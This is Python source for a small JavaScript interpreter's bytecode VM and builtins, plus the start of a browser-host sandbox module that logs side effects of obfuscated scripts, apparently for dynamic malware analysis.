from .compiler import Code, FunctionTemplate, compile_function_body, compile_program
from .interpreter import (
    BudgetExceeded,
    Environment,
    Interpreter,
    _Break,
    _Continue,
    _Return,
    evaluate_binary,
)
from .parser import parse
from .values import (
    UNDEFINED,
    JSArray,
    JSException,
    JSFunction,
    JSObject,
    NativeFunction,
    strict_equals,
    to_boolean,
    to_number,
    to_string,
    type_of,
)

__all__ = ["VirtualMachine", "VMFunction", "JS_BACKEND_ENV", "JS_BACKENDS",
           "resolve_js_backend", "make_js_engine"]

#: environment variable selecting the default backend ("ast" or "vm")
JS_BACKEND_ENV = "REPRO_JS_BACKEND"

#: valid backend names: "ast" = tree-walking reference Interpreter,
#: "vm" = this opcode machine
JS_BACKENDS = ("ast", "vm")


def resolve_js_backend(value: Optional[str] = None) -> str:
    """Resolve a backend name: explicit > ``$REPRO_JS_BACKEND`` > "ast"."""
    if value is None:
        value = os.environ.get(JS_BACKEND_ENV) or "ast"
    if value not in JS_BACKENDS:
        raise ValueError(
            "unknown JS backend %r (expected one of %s)" % (value, ", ".join(JS_BACKENDS)))
    return value


def make_js_engine(backend: Optional[str] = None, **kwargs: Any) -> Any:
    """Construct the selected engine (Interpreter or VirtualMachine)."""
    if resolve_js_backend(backend) == "vm":
        return VirtualMachine(**kwargs)
    return Interpreter(**kwargs)


class VMFunction(JSFunction):
    """A JS function closed over a compiled body.

    Subclasses :class:`JSFunction` so ``typeof``, ``call``/``apply``
    dispatch and every ``isinstance`` check in the builtins treat it
    exactly like a walker-created function.
    """

    def __init__(self, template: FunctionTemplate, env: Any) -> None:
        super().__init__(template.name, template.params, template.body, env)
        self.code = template.code


class VirtualMachine:
    """Dispatch-loop executor with Interpreter-compatible surface."""

    MAX_STRING_LENGTH = Interpreter.MAX_STRING_LENGTH
    backend = "vm"

    def __init__(
        self,
        host_globals: Optional[Dict[str, Any]] = None,
        step_budget: int = 500_000,
        rng: Optional[random.Random] = None,
        observer: Optional[Any] = None,
        compile_cache: Optional[Any] = None,
    ) -> None:
        self.rng = rng or random.Random(0)
        self.step_budget = step_budget
        self.compile_cache = compile_cache
        #: walker-equivalent step counter (tick parity with the ast backend)
        self.steps = 0
        self._steps_reported = 0
        #: instructions dispatched — the VM's real work unit, reported as
        #: the ``js.vm.ops`` work kind
        self.ops = 0
        self._ops_reported = 0
        self.observer = observer
        self.eval_depth = 0
        self.max_eval_depth = 0
        self.global_env = Environment()
        for name, value in make_global_builtins(self).items():
            self.global_env.declare(name, value)
        self.global_env.declare("eval", NativeFunction("eval", self._eval_builtin))
        self.eval_log: List[str] = []
        if host_globals:
            for name, value in host_globals.items():
                self.global_env.declare(name, value)

    # ------------------------------------------------------------------
    # Entry points
    # ------------------------------------------------------------------
    def limits(self) -> tuple:
        """Codegen-relevant limits, part of the compile-cache key."""
        return (self.step_budget, self.MAX_STRING_LENGTH)

    def run(self, source: str) -> Any:
        """Parse, compile and execute ``source`` in the global scope."""
        return self.run_code(self._compile(source))

    def _compile(self, source: str) -> Code:
        if self.compile_cache is not None:
            return self.compile_cache.compile_code(
                source, limits=self.limits(), observer=self.observer)
        program = parse(source, observer=self.observer)
        return compile_program(program, max_string_length=self.MAX_STRING_LENGTH)

    def run_code(self, code: Code) -> Any:
        try:
            return self._run_code(code, self.global_env)
        finally:
            self._report_gauges()

    def _report_gauges(self) -> None:
        if self.observer is not None:
            script_steps = self.steps - self._steps_reported
            self._steps_reported = self.steps
            script_ops = self.ops - self._ops_reported
            self._ops_reported = self.ops
            # identical to Interpreter._report_gauges — tick parity makes
            # the gauges, histogram, and js.interp.steps deltas match …
            self.observer.gauge_max("js.op_count", self.steps)
            self.observer.gauge_max("js.eval_depth", self.max_eval_depth)
            self.observer.count("js.scripts_executed")
            self.observer.observe("js.op_count", script_steps)
            self.observer.work("js.interp.steps", script_steps)
            # … while dispatch is accounted separately, as ledger work
            # only (a metrics counter would leak into cross-backend
            # report comparisons)
            self.observer.work("js.vm.ops", script_ops)

    def call_function(self, fn: Any, args: List[Any], this: Any = UNDEFINED) -> Any:
        """Invoke a JS or native function from host code."""
        if isinstance(fn, NativeFunction):
            return fn(*args)
        if callable(fn) and not isinstance(fn, JSFunction):
            return fn(*args)
        if isinstance(fn, JSFunction):
            code = getattr(fn, "code", None)
            if code is None:
                # a walker-created JSFunction leaked in (host mixing):
                # compile its body on the fly rather than diverging
                code = compile_function_body(fn.params, fn.body, self.MAX_STRING_LENGTH)
            env = Environment(fn.env)
            for index, param in enumerate(fn.params):
                env.declare(param, args[index] if index < len(args) else UNDEFINED)
            env.declare("arguments", JSArray(list(args)))
            env.declare("this", this)
            try:
                self._run_code(code, env)
            except _Return as ret:
                return ret.value
            return UNDEFINED
        raise JSException("TypeError: %s is not a function" % to_string(fn))

    # ------------------------------------------------------------------
    # Internals
    # ------------------------------------------------------------------
    def _charge(self, weight: int) -> None:
        """Charge a fused tick weight with walker-identical overflow.

        The walker ticks one step at a time and raises at the first
        crossing, so from ``steps == s``: if even one tick overflows the
        budget the post-raise value is ``s + 1``; otherwise a crossing
        inside the fused span lands exactly on ``budget + 1``.
        """
        steps = self.steps
        budget = self.step_budget
        if steps + weight > budget:
            self.steps = steps + 1 if steps + 1 > budget else budget + 1
            raise BudgetExceeded("step budget of %d exceeded" % budget)
        self.steps = steps + weight

    def _eval_builtin(self, source: Any = UNDEFINED) -> Any:
        if not isinstance(source, str):
            return source
        self.eval_log.append(source)
        code = self._compile(source)
        self.eval_depth += 1
        if self.eval_depth > self.max_eval_depth:
            self.max_eval_depth = self.eval_depth
        try:
            return self._run_code(code, self.global_env)
        finally:
            self.eval_depth -= 1

    def _run_code(self, code: Code, env: Environment) -> Any:  # noqa: C901
        instrs = code.instrs
        weights = code.weights
        size = len(instrs)
        stack: List[Any] = []
        result: Any = UNDEFINED
        pc = 0
        while pc < size:
            weight = weights[pc]
            if weight:
                self._charge(weight)
            op, arg = instrs[pc]
            self.ops += 1
            pc += 1
            if op == C.LOAD_CONST:
                stack.append(arg)
            elif op == C.LOAD_NAME:
                stack.append(env.lookup(arg))
            elif op == C.BINOP:
                right = stack.pop()
                stack[-1] = evaluate_binary(arg, stack[-1], right, self.MAX_STRING_LENGTH)
            elif op == C.SET_RESULT:
                result = stack.pop()
            elif op == C.JUMP_IF_FALSE:
                if not to_boolean(stack.pop()):
                    pc = arg
            elif op == C.JUMP:
                pc = arg
            elif op == C.CALL:
                fn = stack.pop()
                if arg:
                    args = stack[-arg:]
                    del stack[-arg:]
                else:
                    args = []
                stack.append(self.call_function(fn, args, this=UNDEFINED))
            elif op == C.CALL_METHOD:
                name, argc = arg
                obj = stack.pop()
                if argc:
                    args = stack[-argc:]
                    del stack[-argc:]
                else:
                    args = []
                fn = get_member(self, obj, name)
                stack.append(self.call_function(fn, args, this=obj))
            elif op == C.CALL_METHOD_DYN:
                prop = to_string(stack.pop())
                obj = stack.pop()
                if arg:
                    args = stack[-arg:]
                    del stack[-arg:]
                else:
                    args = []
                fn = get_member(self, obj, prop)
                stack.append(self.call_function(fn, args, this=obj))
            elif op == C.GET_MEMBER:
                stack[-1] = get_member(self, stack[-1], arg)
            elif op == C.GET_MEMBER_DYN:
                prop = to_string(stack.pop())
                stack[-1] = get_member(self, stack[-1], prop)
            elif op == C.SET_MEMBER:
                obj = stack.pop()
                if hasattr(obj, "js_set"):
                    obj.js_set(arg, stack[-1])
            elif op == C.SET_MEMBER_DYN:
                prop = to_string(stack.pop())
                obj = stack.pop()
                if hasattr(obj, "js_set"):
                    obj.js_set(prop, stack[-1])
            elif op == C.STORE_NAME:
                env.assign(arg, stack[-1])
            elif op == C.LOAD_NAME_SOFT:
                stack.append(env.lookup(arg) if env.has(arg) else UNDEFINED)
            elif op == C.DECLARE_STORE:
                value = stack.pop()
                if env.has(arg):
                    env.assign(arg, value)
                else:
                    env.declare(arg, value)
                result = UNDEFINED
            elif op == C.POP:
                stack.pop()
            elif op == C.PUSH_CONSTS:
                stack.extend(arg)
            elif op == C.BUILD_CONST_ARRAY:
                stack.append(JSArray(list(arg)))
            elif op == C.BUILD_CONST_OBJECT:
                obj = JSObject()
                for key, value in arg:
                    obj.js_set(key, value)
                stack.append(obj)
            elif op == C.BUILD_ARRAY:
                if arg:
                    elements = stack[-arg:]
                    del stack[-arg:]
                else:
                    elements = []
                stack.append(JSArray(elements))
            elif op == C.BUILD_OBJECT:
                count = len(arg)
                values = stack[-count:]
                del stack[-count:]
                obj = JSObject()
                for key, value in zip(arg, values):
                    obj.js_set(key, value)
                stack.append(obj)
            elif op == C.DELETE_MEMBER:
                prop = to_string(stack.pop()) if arg is None else arg
                obj = stack.pop()
                if isinstance(obj, JSObject):
                    obj.js_delete(prop)
                stack.append(True)
            elif op == C.UNARY:
                value = stack.pop()
                if arg == "!":
                    stack.append(not to_boolean(value))
                elif arg == "-":
                    stack.append(-to_number(value))
                elif arg == "+":
                    stack.append(to_number(value))
                elif arg == "~":
                    stack.append(float(~C._to_int32(to_number(value))))
                elif arg == "void":
                    stack.append(UNDEFINED)
                else:
                    raise JSException("unsupported unary %s" % arg)
            elif op == C.TYPEOF:
                stack[-1] = type_of(stack[-1])
            elif op == C.TYPEOF_NAME:
                if env.has(arg):
                    # bound name: the walker evaluates the identifier
                    # node (one tick) before type_of; unbound names
                    # short-circuit to "undefined" without evaluating
                    self._charge(1)
                    stack.append(type_of(env.lookup(arg)))
                else:
                    stack.append("undefined")
            elif op == C.UPDATE_VALUE:
                delta, prefix = arg
                old = to_number(stack.pop())
                new = old + delta
                stack.append(new if prefix else old)
                stack.append(new)
            elif op == C.INC_NAME:
                name, delta, prefix = arg
                old = to_number(env.lookup(name) if env.has(name) else UNDEFINED)
                new = old + delta
                env.assign(name, new)
                stack.append(new if prefix else old)
            elif op == C.LOAD_THIS:
                stack.append(env.lookup("this") if env.has("this") else UNDEFINED)
            elif op == C.JUMP_IF_FALSE_OR_POP:
                if not to_boolean(stack[-1]):
                    pc = arg
                else:
                    stack.pop()
            elif op == C.JUMP_IF_TRUE_OR_POP:
                if to_boolean(stack[-1]):
                    pc = arg
                else:
                    stack.pop()
            elif op == C.CLEAR_RESULT:
                result = UNDEFINED
            elif op == C.NEW:
                if arg:
                    args = stack[-arg:]
                    del stack[-arg:]
                else:
                    args = []
                callee = stack.pop()
                if isinstance(callee, NativeFunction) or (
                        callable(callee) and not isinstance(callee, JSFunction)):
                    stack.append(callee(*args))
                elif isinstance(callee, JSFunction):
                    instance = JSObject()
                    returned = self.call_function(callee, args, this=instance)
                    stack.append(returned if isinstance(returned, (JSObject, JSArray))
                                 else instance)
                else:
                    raise JSException(
                        "TypeError: %s is not a constructor" % to_string(callee))
            elif op == C.MAKE_FUNCTION:
                fn = VMFunction(arg, env)
                if arg.name:
                    fn_env = Environment(env)
                    fn_env.declare(arg.name, fn)
                    fn.env = fn_env
                stack.append(fn)
            elif op == C.DECLARE_FUNCTION:
                env.declare(arg.name, VMFunction(arg, env))
                result = UNDEFINED
            elif op == C.HOIST:
                for hoist_kind, payload in arg:
                    if hoist_kind == "f":
                        env.declare(payload.name, VMFunction(payload, env))
                    elif payload not in env.vars:
                        env.declare(payload)
            elif op == C.RETURN:
                raise _Return(stack.pop() if arg else UNDEFINED)
            elif op == C.BREAK:
                raise _Break()
            elif op == C.CONTINUE:
                raise _Continue()
            elif op == C.THROW:
                raise JSException(stack.pop())
            elif op == C.RAISE_MSG:
                raise JSException(arg)
            elif op == C.WHILE:
                test_code, body_code = arg
                while to_boolean(self._run_code(test_code, env)):
                    self._charge(1)
                    try:
                        self._run_code(body_code, env)
                    except _Break:
                        break
                    except _Continue:
                        continue
                result = UNDEFINED
            elif op == C.DOWHILE:
                body_code, test_code = arg
                while True:
                    self._charge(1)
                    try:
                        self._run_code(body_code, env)
                    except _Break:
                        break
                    except _Continue:
                        pass
                    if not to_boolean(self._run_code(test_code, env)):
                        break
                result = UNDEFINED
            elif op == C.FOR:
                init_code, test_code, update_code, body_code = arg
                if init_code is not None:
                    self._run_code(init_code, env)
                while test_code is None or to_boolean(self._run_code(test_code, env)):
                    self._charge(1)
                    try:
                        self._run_code(body_code, env)
                    except _Break:
                        break
                    except _Continue:
                        pass
                    if update_code is not None:
                        self._run_code(update_code, env)
                result = UNDEFINED
            elif op == C.FORIN:
                target, declare, body_code = arg
                obj = stack.pop()
                keys: List[str] = []
                if isinstance(obj, JSArray):
                    keys = [str(i) for i in range(len(obj.elements))]
                elif isinstance(obj, JSObject):
                    keys = obj.keys()
                elif hasattr(obj, "js_keys"):
                    keys = list(obj.js_keys())
                if declare and not env.has(target):
                    env.declare(target)
                for key in keys:
                    env.assign(target, key)
                    self._charge(1)
                    try:
                        self._run_code(body_code, env)
                    except _Break:
                        break
                    except _Continue:
                        continue
                result = UNDEFINED
            elif op == C.TRY:
                block_code, catch_param, catch_code, finally_code = arg
                try:
                    self._run_code(block_code, env)
                except JSException as exc:
                    if catch_code is not None:
                        catch_env = Environment(env)
                        catch_env.declare(catch_param or "e", exc.value)
                        self._run_code(catch_code, catch_env)
                finally:
                    if finally_code is not None:
                        self._run_code(finally_code, env)
                result = UNDEFINED
            elif op == C.SWITCH:
                discriminant = stack.pop()
                matched = False
                try:
                    for test_code, body_code in arg:
                        if not matched and test_code is not None:
                            if strict_equals(discriminant,
                                             self._run_code(test_code, env)):
                                matched = True
                        if matched:
                            self._run_code(body_code, env)
                    if not matched:
                        default_seen = False
                        for test_code, body_code in arg:
                            if test_code is None:
                                default_seen = True
                            if default_seen:
                                self._run_code(body_code, env)
                except _Break:
                    pass
                result = UNDEFINED
            else:  # pragma: no cover - compiler/VM opcode sets are in lockstep
                raise JSException("unsupported opcode %d" % op)
        return stack[-1] if stack else result
