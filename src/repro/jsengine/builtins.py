"""Built-in methods for JS primitive and object values.

Implements the String/Array/Number methods the obfuscated corpus uses
(``charCodeAt``, ``fromCharCode``, ``split``/``join``/``reverse``,
``replace``, ``substring`` ...), plus the global functions obfuscators
lean on (``unescape``, ``decodeURIComponent``, ``parseInt``, ``atob``).
"""

from __future__ import annotations

import base64
import binascii
import math
from typing import Any, Callable, List, Optional

from .values import (
    UNDEFINED,
    JSArray,
    JSException,
    JSFunction,
    JSObject,
    NativeFunction,
    to_number,
    to_string,
)

__all__ = ["get_member", "call_method", "make_global_builtins", "js_unescape", "js_escape"]


def _num(value: Any, default: float = 0.0) -> float:
    if value is UNDEFINED:
        return default
    return to_number(value)


def _int_or(value: Any, default: int) -> int:
    if value is UNDEFINED:
        return default
    number = to_number(value)
    if math.isnan(number):
        return default
    return int(number)


# ---------------------------------------------------------------------------
# escape/unescape — the de-obfuscation workhorses
# ---------------------------------------------------------------------------

def js_unescape(text: str) -> str:
    """The legacy ``unescape`` global, faithful to %uNNNN handling."""
    out: List[str] = []
    i = 0
    n = len(text)
    while i < n:
        ch = text[i]
        if ch == "%" and i + 5 < n + 1 and i + 1 < n and text[i + 1] in "uU" and i + 6 <= n:
            hex4 = text[i + 2 : i + 6]
            if len(hex4) == 4 and all(c in "0123456789abcdefABCDEF" for c in hex4):
                out.append(chr(int(hex4, 16)))
                i += 6
                continue
        if ch == "%" and i + 3 <= n:
            hex2 = text[i + 1 : i + 3]
            if len(hex2) == 2 and all(c in "0123456789abcdefABCDEF" for c in hex2):
                out.append(chr(int(hex2, 16)))
                i += 3
                continue
        out.append(ch)
        i += 1
    return "".join(out)


def js_escape(text: str) -> str:
    """The legacy ``escape`` global."""
    out: List[str] = []
    for ch in text:
        if ch.isalnum() or ch in "@*_+-./":
            out.append(ch)
        elif ord(ch) < 256:
            out.append("%%%02X" % ord(ch))
        else:
            out.append("%%u%04X" % ord(ch))
    return "".join(out)


def _decode_uri_component(text: str) -> str:
    out = bytearray()
    i = 0
    n = len(text)
    while i < n:
        if text[i] == "%" and i + 3 <= n:
            hex2 = text[i + 1 : i + 3]
            if all(c in "0123456789abcdefABCDEF" for c in hex2):
                out.extend(bytes([int(hex2, 16)]))
                i += 3
                continue
        out.extend(text[i].encode("utf-8"))
        i += 1
    return out.decode("utf-8", errors="replace")


def _encode_uri_component(text: str) -> str:
    out: List[str] = []
    for ch in text:
        if ch.isalnum() or ch in "-_.!~*'()":
            out.append(ch)
        else:
            out.extend("%%%02X" % b for b in ch.encode("utf-8"))
    return "".join(out)


# ---------------------------------------------------------------------------
# Member access on primitives / objects
# ---------------------------------------------------------------------------

def get_member(interp: Any, obj: Any, name: str) -> Any:
    """Property lookup with builtin-method fallback.

    ``interp`` is the calling interpreter; function-valued results that
    need it (e.g. ``Array.prototype.map``-style callbacks) close over it.
    """
    if isinstance(obj, str):
        return _string_member(interp, obj, name)
    if isinstance(obj, (float, int)) and not isinstance(obj, bool):
        return _number_member(obj, name)
    if isinstance(obj, JSArray):
        builtin = _array_member(interp, obj, name)
        if builtin is not None:
            return builtin
        return obj.js_get(name)
    if isinstance(obj, (JSObject, JSFunction, NativeFunction)):
        value = obj.js_get(name)
        if value is UNDEFINED and isinstance(obj, JSFunction) and name in ("call", "apply"):
            return _function_call_apply(interp, obj, name)
        return value
    if hasattr(obj, "js_get"):
        return obj.js_get(name)
    if obj is None or obj is UNDEFINED:
        raise JSException("TypeError: cannot read property %r of %s" % (name, to_string(obj)))
    return UNDEFINED


def call_method(interp: Any, obj: Any, name: str, args: List[Any]) -> Any:
    fn = get_member(interp, obj, name)
    return interp.call_function(fn, args, this=obj)


def _string_member(interp: Any, s: str, name: str) -> Any:
    if name == "length":
        return float(len(s))

    def method(fn: Callable[..., Any]) -> NativeFunction:
        return NativeFunction("String.%s" % name, fn)

    if name == "charAt":
        return method(lambda idx=UNDEFINED: s[_int_or(idx, 0)] if 0 <= _int_or(idx, 0) < len(s) else "")
    if name == "charCodeAt":
        def char_code_at(idx: Any = UNDEFINED) -> float:
            i = _int_or(idx, 0)
            if 0 <= i < len(s):
                return float(ord(s[i]))
            return float("nan")
        return method(char_code_at)
    if name == "indexOf":
        return method(lambda needle=UNDEFINED, start=UNDEFINED: float(s.find(to_string(needle), _int_or(start, 0))))
    if name == "lastIndexOf":
        return method(lambda needle=UNDEFINED: float(s.rfind(to_string(needle))))
    if name == "substring":
        def substring(a: Any = UNDEFINED, b: Any = UNDEFINED) -> str:
            start = max(0, min(len(s), _int_or(a, 0)))
            end = max(0, min(len(s), _int_or(b, len(s))))
            if start > end:
                start, end = end, start
            return s[start:end]
        return method(substring)
    if name == "substr":
        def substr(a: Any = UNDEFINED, length: Any = UNDEFINED) -> str:
            start = _int_or(a, 0)
            if start < 0:
                start = max(0, len(s) + start)
            count = _int_or(length, len(s) - start)
            return s[start : start + max(0, count)]
        return method(substr)
    if name == "slice":
        def str_slice(a: Any = UNDEFINED, b: Any = UNDEFINED) -> str:
            start = _int_or(a, 0)
            end = _int_or(b, len(s))
            return s[slice(start, end)] if (start >= 0 and end >= 0) else s[start:end or None]
        return method(str_slice)
    if name == "split":
        def split(sep: Any = UNDEFINED, limit: Any = UNDEFINED) -> JSArray:
            if sep is UNDEFINED:
                return JSArray([s])
            separator = to_string(sep)
            parts = list(s) if separator == "" else s.split(separator)
            if limit is not UNDEFINED:
                parts = parts[: _int_or(limit, len(parts))]
            return JSArray(parts)
        return method(split)
    if name == "replace":
        def replace(pattern: Any = UNDEFINED, repl: Any = UNDEFINED) -> str:
            pat = to_string(pattern)
            if isinstance(repl, (JSFunction, NativeFunction)):
                idx = s.find(pat)
                if idx == -1:
                    return s
                replacement = to_string(interp.call_function(repl, [pat], this=UNDEFINED))
                return s[:idx] + replacement + s[idx + len(pat):]
            return s.replace(pat, to_string(repl), 1)
        return method(replace)
    if name == "toLowerCase":
        return method(lambda: s.lower())
    if name == "toUpperCase":
        return method(lambda: s.upper())
    if name == "concat":
        return method(lambda *args: s + "".join(to_string(a) for a in args))
    if name == "trim":
        return method(lambda: s.strip())
    if name == "toString":
        return method(lambda: s)
    return UNDEFINED


def _number_member(value: float, name: str) -> Any:
    number = float(value)
    if name == "toString":
        def to_radix(radix: Any = UNDEFINED) -> str:
            base = _int_or(radix, 10)
            if base == 10:
                return to_string(number)
            digits = "0123456789abcdefghijklmnopqrstuvwxyz"
            n = int(number)
            if n == 0:
                return "0"
            sign = "-" if n < 0 else ""
            n = abs(n)
            out = []
            while n:
                out.append(digits[n % base])
                n //= base
            return sign + "".join(reversed(out))
        return NativeFunction("Number.toString", to_radix)
    if name == "toFixed":
        return NativeFunction("Number.toFixed", lambda d=UNDEFINED: "%.*f" % (_int_or(d, 0), number))
    return UNDEFINED


def _array_member(interp: Any, arr: JSArray, name: str) -> Optional[NativeFunction]:
    def method(fn: Callable[..., Any]) -> NativeFunction:
        return NativeFunction("Array.%s" % name, fn)

    if name == "push":
        def push(*args: Any) -> float:
            arr.elements.extend(args)
            return float(len(arr.elements))
        return method(push)
    if name == "pop":
        return method(lambda: arr.elements.pop() if arr.elements else UNDEFINED)
    if name == "shift":
        return method(lambda: arr.elements.pop(0) if arr.elements else UNDEFINED)
    if name == "unshift":
        def unshift(*args: Any) -> float:
            arr.elements[:0] = args
            return float(len(arr.elements))
        return method(unshift)
    if name == "join":
        def join(sep: Any = UNDEFINED) -> str:
            separator = "," if sep is UNDEFINED else to_string(sep)
            return separator.join(
                "" if el is UNDEFINED or el is None else to_string(el) for el in arr.elements
            )
        return method(join)
    if name == "reverse":
        def reverse() -> JSArray:
            arr.elements.reverse()
            return arr
        return method(reverse)
    if name == "slice":
        def arr_slice(a: Any = UNDEFINED, b: Any = UNDEFINED) -> JSArray:
            start = _int_or(a, 0)
            end = _int_or(b, len(arr.elements))
            return JSArray(arr.elements[start:end])
        return method(arr_slice)
    if name == "concat":
        def concat(*args: Any) -> JSArray:
            out = list(arr.elements)
            for arg in args:
                if isinstance(arg, JSArray):
                    out.extend(arg.elements)
                else:
                    out.append(arg)
            return JSArray(out)
        return method(concat)
    if name == "indexOf":
        def index_of(needle: Any = UNDEFINED) -> float:
            from .values import strict_equals
            for i, el in enumerate(arr.elements):
                if strict_equals(el, needle):
                    return float(i)
            return -1.0
        return method(index_of)
    if name == "forEach":
        def for_each(callback: Any = UNDEFINED) -> Any:
            for index, element in enumerate(list(arr.elements)):
                interp.call_function(callback, [element, float(index), arr], this=UNDEFINED)
            return UNDEFINED
        return method(for_each)
    if name == "map":
        def map_fn(callback: Any = UNDEFINED) -> JSArray:
            return JSArray([
                interp.call_function(callback, [element, float(index), arr], this=UNDEFINED)
                for index, element in enumerate(list(arr.elements))
            ])
        return method(map_fn)
    if name == "filter":
        def filter_fn(callback: Any = UNDEFINED) -> JSArray:
            from .values import to_boolean
            return JSArray([
                element for index, element in enumerate(list(arr.elements))
                if to_boolean(interp.call_function(callback, [element, float(index), arr],
                                                   this=UNDEFINED))
            ])
        return method(filter_fn)
    if name == "sort":
        def sort(comparator: Any = UNDEFINED) -> JSArray:
            if comparator is UNDEFINED:
                arr.elements.sort(key=to_string)
            else:
                import functools
                arr.elements.sort(
                    key=functools.cmp_to_key(
                        lambda a, b: int(to_number(interp.call_function(comparator, [a, b], this=UNDEFINED)) or 0)
                    )
                )
            return arr
        return method(sort)
    if name == "toString":
        return method(lambda: to_string(arr))
    return None


def _function_call_apply(interp: Any, fn: JSFunction, name: str) -> NativeFunction:
    if name == "call":
        def call(this: Any = UNDEFINED, *args: Any) -> Any:
            return interp.call_function(fn, list(args), this=this)
        return NativeFunction("Function.call", call)

    def apply(this: Any = UNDEFINED, args: Any = UNDEFINED) -> Any:
        arg_list = args.elements if isinstance(args, JSArray) else []
        return interp.call_function(fn, list(arg_list), this=this)
    return NativeFunction("Function.apply", apply)


# ---------------------------------------------------------------------------
# Global builtins
# ---------------------------------------------------------------------------

def make_global_builtins(interp: Any) -> dict:
    """Build the default global bindings (String, Math, parseInt, ...)."""

    def _atob(data: Any = UNDEFINED) -> str:
        text = to_string(data)
        try:
            return base64.b64decode(text + "=" * (-len(text) % 4)).decode("latin-1")
        except (binascii.Error, ValueError):
            raise JSException("InvalidCharacterError: atob")

    def _btoa(data: Any = UNDEFINED) -> str:
        return base64.b64encode(to_string(data).encode("latin-1", errors="replace")).decode("ascii")

    def _parse_int(text: Any = UNDEFINED, radix: Any = UNDEFINED) -> float:
        raw = to_string(text).strip()
        base = _int_or(radix, 0)
        sign = 1
        if raw[:1] in "+-":
            if raw[0] == "-":
                sign = -1
            raw = raw[1:]
        if base == 0:
            base = 16 if raw[:2].lower() == "0x" else 10
        if base == 16 and raw[:2].lower() == "0x":
            raw = raw[2:]
        digits = "0123456789abcdefghijklmnopqrstuvwxyz"[:base]
        end = 0
        for ch in raw.lower():
            if ch in digits:
                end += 1
            else:
                break
        if end == 0:
            return float("nan")
        return float(sign * int(raw[:end], base))

    def _parse_float(text: Any = UNDEFINED) -> float:
        raw = to_string(text).strip()
        end = 0
        seen_dot = seen_e = False
        for i, ch in enumerate(raw):
            if ch.isdigit():
                end = i + 1
            elif ch == "." and not seen_dot and not seen_e:
                seen_dot = True
            elif ch in "eE" and not seen_e and end:
                seen_e = True
            elif ch in "+-" and i == 0:
                continue
            else:
                break
        try:
            return float(raw[: max(end, 1)])
        except ValueError:
            return float("nan")

    string_ctor = NativeFunction("String", lambda v=UNDEFINED: "" if v is UNDEFINED else to_string(v))
    string_obj = JSObject({
        "fromCharCode": NativeFunction(
            "String.fromCharCode",
            lambda *codes: "".join(chr(int(to_number(c)) & 0xFFFF) for c in codes),
        ),
    })
    # String is callable *and* has fromCharCode; model as a native function
    # with properties via a small host wrapper.
    string_host = _CallableWithProps(string_ctor, string_obj)

    math_obj = JSObject({
        "floor": NativeFunction("Math.floor", lambda v=UNDEFINED: float(math.floor(to_number(v)))),
        "ceil": NativeFunction("Math.ceil", lambda v=UNDEFINED: float(math.ceil(to_number(v)))),
        "round": NativeFunction("Math.round", lambda v=UNDEFINED: float(math.floor(to_number(v) + 0.5))),
        "abs": NativeFunction("Math.abs", lambda v=UNDEFINED: abs(to_number(v))),
        "max": NativeFunction("Math.max", lambda *vs: max((to_number(v) for v in vs), default=float("-inf"))),
        "min": NativeFunction("Math.min", lambda *vs: min((to_number(v) for v in vs), default=float("inf"))),
        "pow": NativeFunction("Math.pow", lambda a=UNDEFINED, b=UNDEFINED: to_number(a) ** to_number(b)),
        "sqrt": NativeFunction("Math.sqrt", lambda v=UNDEFINED: math.sqrt(to_number(v))),
        "random": NativeFunction("Math.random", lambda: interp.rng.random()),
        "PI": math.pi,
        "E": math.e,
    })

    json_obj = JSObject({
        "stringify": NativeFunction("JSON.stringify", lambda v=UNDEFINED: _json_stringify(v)),
    })

    return {
        "String": string_host,
        "Math": math_obj,
        "JSON": json_obj,
        "NaN": float("nan"),
        "Infinity": float("inf"),
        "undefined": UNDEFINED,
        "unescape": NativeFunction("unescape", lambda v=UNDEFINED: js_unescape(to_string(v))),
        "escape": NativeFunction("escape", lambda v=UNDEFINED: js_escape(to_string(v))),
        "decodeURIComponent": NativeFunction(
            "decodeURIComponent", lambda v=UNDEFINED: _decode_uri_component(to_string(v))
        ),
        "encodeURIComponent": NativeFunction(
            "encodeURIComponent", lambda v=UNDEFINED: _encode_uri_component(to_string(v))
        ),
        "decodeURI": NativeFunction("decodeURI", lambda v=UNDEFINED: _decode_uri_component(to_string(v))),
        "parseInt": NativeFunction("parseInt", _parse_int),
        "parseFloat": NativeFunction("parseFloat", _parse_float),
        "isNaN": NativeFunction("isNaN", lambda v=UNDEFINED: math.isnan(to_number(v))),
        "atob": NativeFunction("atob", _atob),
        "btoa": NativeFunction("btoa", _btoa),
        "Array": NativeFunction("Array", lambda *args: JSArray(list(args))),
        "Object": NativeFunction("Object", lambda *args: JSObject()),
        "Number": NativeFunction("Number", lambda v=UNDEFINED: to_number(v)),
        "Boolean": NativeFunction("Boolean", lambda v=UNDEFINED: to_boolean_host(v)),
        "Error": NativeFunction("Error", lambda msg=UNDEFINED: JSObject({"message": to_string(msg)})),
    }


def to_boolean_host(value: Any) -> bool:
    from .values import to_boolean

    return to_boolean(value)


def _json_stringify(value: Any) -> str:
    import json

    def convert(v: Any):
        if isinstance(v, JSArray):
            return [convert(el) for el in v.elements]
        if isinstance(v, JSObject):
            return {k: convert(val) for k, val in v.properties.items()}
        if v is UNDEFINED:
            return None
        if isinstance(v, float) and v == int(v):
            return int(v)
        return v

    return json.dumps(convert(value))


class _CallableWithProps:
    """A host value that is callable and also carries properties."""

    def __init__(self, fn: NativeFunction, props: JSObject) -> None:
        self._fn = fn
        self._props = props
        self.name = fn.name

    def __call__(self, *args: Any) -> Any:
        return self._fn(*args)

    def js_get(self, name: str) -> Any:
        return self._props.js_get(name)

    def js_set(self, name: str, value: Any) -> None:
        self._props.js_set(name, value)
