"""Browser host environment for the JS interpreter.

The paper analyzed obfuscated samples by executing them "in a virtual
machine environment" and observing behaviour (Sections IV-A1, V-B, V-D).
This module is that environment: a ``window``/``document`` world bridged
to a real :mod:`repro.htmlparse` DOM, with every security-relevant side
effect recorded in a :class:`BehaviorLog`:

* navigations (``window.location`` assignments, ``meta`` refresh),
* popups (``window.open``),
* ``document.write`` payloads,
* dynamically created/injected elements (the iframe-injection vector),
* deceptive download triggers (navigation to ``.exe`` resources,
  anchor-click synthesis),
* tracking beacons (``new Image().src``, XHR),
* event-listener registration (mouse-movement fingerprinting),
* cookies.

After execution, detection code inspects both the log and the mutated
DOM — exactly what a dynamic-analysis sandbox like ADSandbox does.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

from ..htmlparse import Document, Element, parse_fragment, serialize_children
from .values import UNDEFINED, JSArray, JSObject, NativeFunction, to_number, to_string
from .vm import make_js_engine, resolve_js_backend

__all__ = ["BehaviorLog", "BrowserHost", "DomElement", "run_script_in_page"]

